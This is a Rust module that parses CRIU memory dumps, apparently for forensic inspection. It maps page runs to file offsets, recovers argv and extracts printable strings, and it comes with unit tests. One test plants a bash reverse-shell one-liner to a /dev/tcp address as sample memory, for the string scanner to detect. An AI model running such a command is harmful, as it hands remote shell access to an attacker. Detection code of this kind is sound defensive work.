//! A task's memory as CRIU keeps it: the page map lists the present runs of pages (virtual
//! address, page count) in the order their bytes follow each other in `pages-<id>.img`.
//! From it: where a virtual address lies in the pages file and back, the command line
//! (argv lives at mm's `arg_start..arg_end`), and the printable strings of the pages,
//! streamed in chunks with their offsets.

use std::io::{self, Read};

use super::messages::PagemapEntry;

/// Page sizes a pages file may be written with (x86-64: 4 KiB; AArch64: 4, 16 or 64 KiB).
const PAGE_SIZES: [u64; 3] = [4096, 16384, 65536];
/// Bytes of a command line kept at most.
pub(crate) const MAX_ARGV: u64 = 64 << 10;
/// The shortest printable run taken for a string.
const MIN_STRING: usize = 6;
/// Longer printable runs are cut into strings of this many bytes.
const MAX_STRING: usize = 4096;
/// Bytes read from a pages file at a time.
const CHUNK: usize = 1 << 20;

/// One run of present pages: at `vaddr`, `len` bytes, from `offset` in the pages file.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Run {
    vaddr: u64,
    offset: u64,
    len: u64,
}

/// Where a task's pages are in its pages file.
#[derive(Clone, Debug, Default)]
pub(crate) struct Layout {
    runs: Vec<Run>,
}

impl Layout {
    /// The layout of `map`; `file_size` (when known) decides the page size.
    pub(crate) fn new(map: &[PagemapEntry], file_size: Option<u64>) -> Self {
        let pages: u64 = map.iter().filter(|e| e.in_pages()).map(|e| u64::from(e.nr_pages)).sum();
        let page = file_size
            .and_then(|size| {
                PAGE_SIZES.into_iter().find(|p| pages > 0 && pages.checked_mul(*p) == Some(size))
            })
            .unwrap_or(4096);
        let mut runs = vec![];
        let mut offset = 0u64;
        for e in map.iter().filter(|e| e.in_pages()) {
            let len = u64::from(e.nr_pages).saturating_mul(page);
            runs.push(Run { vaddr: e.vaddr, offset, len });
            offset = offset.saturating_add(len);
        }
        Layout { runs }
    }

    /// Bytes the map says the pages file holds.
    pub(crate) fn total(&self) -> u64 {
        self.runs.last().map_or(0, |r| r.offset.saturating_add(r.len))
    }

    /// The virtual address of the byte at `offset` in the pages file.
    pub(crate) fn vaddr_of(&self, offset: u64) -> Option<u64> {
        self.runs
            .iter()
            .find(|r| offset >= r.offset && offset - r.offset < r.len)
            .map(|r| r.vaddr.saturating_add(offset - r.offset))
    }

    /// The pieces of `start..end` (virtual) that were dumped: (file offset, length,
    /// position in the range). Pieces not dumped are left out.
    pub(crate) fn pieces(&self, start: u64, end: u64) -> Vec<(u64, u64, u64)> {
        let end = end.min(start.saturating_add(MAX_ARGV));
        let mut out = vec![];
        for r in &self.runs {
            let (lo, hi) = (start.max(r.vaddr), end.min(r.vaddr.saturating_add(r.len)));
            if lo < hi {
                out.push((r.offset.saturating_add(lo - r.vaddr), hi - lo, lo - start));
            }
        }
        out
    }
}

/// Where a pass hands each string it finds (offset in the pages file, bytes).
type OnString<'a> = Box<dyn FnMut(u64, &[u8]) + 'a>;

/// What a pass over a pages file found: the wanted ranges' bytes and the strings.
pub(crate) struct PageScan<'a> {
    /// (file offset, length, position in `want_buf`).
    wants: Vec<(u64, u64, u64)>,
    pub want_buf: Vec<u8>,
    /// Called with each printable string and its offset in the pages file.
    on_string: OnString<'a>,
    run: Vec<u8>,
    run_start: u64,
}

impl<'a> PageScan<'a> {
    /// A pass that keeps `wants` (see [`Layout::pieces`]; `len` bytes in all) and hands
    /// every string to `on_string`.
    pub(crate) fn new(wants: Vec<(u64, u64, u64)>, len: u64, on_string: impl FnMut(u64, &[u8]) + 'a) -> Self {
        PageScan {
            wants,
            want_buf: vec![0; len.min(MAX_ARGV) as usize],
            on_string: Box::new(on_string),
            run: Vec::with_capacity(MAX_STRING),
            run_start: 0,
        }
    }

    /// Read `r` to its end (or `limit` bytes); the bytes read.
    pub(crate) fn read(&mut self, r: &mut dyn Read, limit: u64) -> io::Result<u64> {
        let mut buf = vec![0u8; CHUNK];
        let mut at = 0u64;
        let mut r = r.take(limit);
        loop {
            let n = match r.read(&mut buf) {
                Ok(0) => break,
                Ok(n) => n,
                Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
                Err(e) => {
                    self.flush();
                    return Err(e);
                }
            };
            let chunk = buf.get(..n).unwrap_or(&[]);
            self.keep(at, chunk);
            self.strings(at, chunk);
            at += n as u64;
        }
        self.flush();
        Ok(at)
    }

    fn keep(&mut self, at: u64, chunk: &[u8]) {
        let end = at.saturating_add(chunk.len() as u64);
        for &(off, len, dest) in &self.wants {
            let (lo, hi) = (off.max(at), off.saturating_add(len).min(end));
            if lo >= hi {
                continue;
            }
            let src = chunk.get((lo - at) as usize..(hi - at) as usize);
            let d = (dest + (lo - off)) as usize;
            if let (Some(src), Some(dst)) = (src, self.want_buf.get_mut(d..d + (hi - lo) as usize)) {
                dst.copy_from_slice(src);
            }
        }
    }

    fn strings(&mut self, at: u64, chunk: &[u8]) {
        for (i, &b) in chunk.iter().enumerate() {
            if (0x20..0x7f).contains(&b) || b == b'\t' {
                if self.run.is_empty() {
                    self.run_start = at + i as u64;
                }
                self.run.push(b);
                if self.run.len() >= MAX_STRING {
                    self.flush();
                }
            } else if !self.run.is_empty() {
                self.flush();
            }
        }
    }

    fn flush(&mut self) {
        if self.run.len() >= MIN_STRING {
            (self.on_string)(self.run_start, &self.run);
        }
        self.run.clear();
    }
}

/// The command line in argv bytes (NUL-separated arguments), as one line; None when the
/// bytes hold nothing printable (the pages did not hold them).
pub(crate) fn argv_line(b: &[u8]) -> Option<String> {
    let args: Vec<String> = b
        .split(|c| *c == 0)
        .filter(|a| !a.is_empty())
        .map(|a| String::from_utf8_lossy(a).into_owned())
        .collect();
    (!args.is_empty()).then(|| args.join(" "))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn e(vaddr: u64, nr: u32, flags: Option<u32>) -> PagemapEntry {
        PagemapEntry { vaddr, nr_pages: nr, in_parent: None, flags }
    }

    #[test]
    fn layout_maps_both_ways_and_skips_parent_pages() {
        let map = [e(0x1000, 2, Some(4)), e(0x9000, 1, Some(1)), e(0x5000, 1, Some(6))];
        let l = Layout::new(&map, Some(3 * 4096));
        assert_eq!(l.total(), 3 * 4096);
        assert_eq!(l.pieces(0x1000, 0x1001), vec![(0, 1, 0)]);
        assert_eq!(l.pieces(0x9000, 0x9010), vec![], "only in the parent dump");
        assert_eq!(l.vaddr_of(0x1fff), Some(0x2fff));
        assert_eq!(l.vaddr_of(0x2010), Some(0x5010));
        assert_eq!(l.vaddr_of(0x3000), None);
        // A range across two runs: the gap is left out.
        assert_eq!(l.pieces(0x2ff0, 0x5008), vec![(0x1ff0, 0x10, 0), (0x2000, 8, 0x5000 - 0x2ff0)]);
        // A range is cut at the longest command line kept.
        assert_eq!(l.pieces(0x1000, u64::MAX), vec![(0, 0x2000, 0), (0x2000, 0x1000, 0x4000)]);
        // 16 KiB pages, decided by the file size.
        assert_eq!(Layout::new(&map, Some(3 * 16384)).total(), 3 * 16384);
        assert_eq!(Layout::new(&map, Some(5)).total(), 3 * 4096);
    }

    #[test]
    fn hostile_page_maps_do_not_overflow() {
        let map =
            [e(u64::MAX - 10, u32::MAX, Some(4)), e(u64::MAX - 10, u32::MAX, Some(4)), e(0, 1, Some(4))];
        let l = Layout::new(&map, None);
        assert_eq!(l.total(), 2 * u64::from(u32::MAX) * 4096 + 4096);
        // Overlapping runs (a hostile map): each gives its piece, the later one wins.
        assert_eq!(l.pieces(u64::MAX - 5, u64::MAX), vec![(5, 5, 0), (u64::from(u32::MAX) * 4096 + 5, 5, 0)]);
        assert_eq!(l.pieces(0, 10), vec![(2 * u64::from(u32::MAX) * 4096, 10, 0)]);
        assert_eq!(l.vaddr_of(3), Some(u64::MAX - 7));
        assert_eq!(l.vaddr_of(u64::MAX), None);
        let mut s = PageScan::new(l.pieces(0, 10), 10, |_, _: &[u8]| {});
        let mut r: &[u8] = &[1, 2, 3];
        assert_eq!(s.read(&mut r, u64::MAX).unwrap(), 3);
    }

    #[test]
    fn strings_and_wanted_bytes_across_chunks() {
        let mut found = vec![];
        let mut data = vec![0u8; 10];
        data.extend(b"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1");
        data.extend([0, 1, 2, b'a', b'b', 0]);
        data.extend(b"./loop2\0-x\0");
        let at = data.len() as u64 - 11;
        {
            let mut s = PageScan::new(vec![(at, 11, 0)], 11, |off, b: &[u8]| found.push((off, b.to_vec())));
            let mut r: &[u8] = &data;
            assert_eq!(s.read(&mut r, u64::MAX).unwrap(), data.len() as u64);
            assert_eq!(argv_line(&s.want_buf).as_deref(), Some("./loop2 -x"));
        }
        assert_eq!(found[0].0, 10);
        assert!(found[0].1.starts_with(b"bash -i"));
        assert_eq!(found.len(), 2, "the short run `ab` is no string; `./loop2` is one");
        assert_eq!(argv_line(&[0, 0]), None);
    }
}
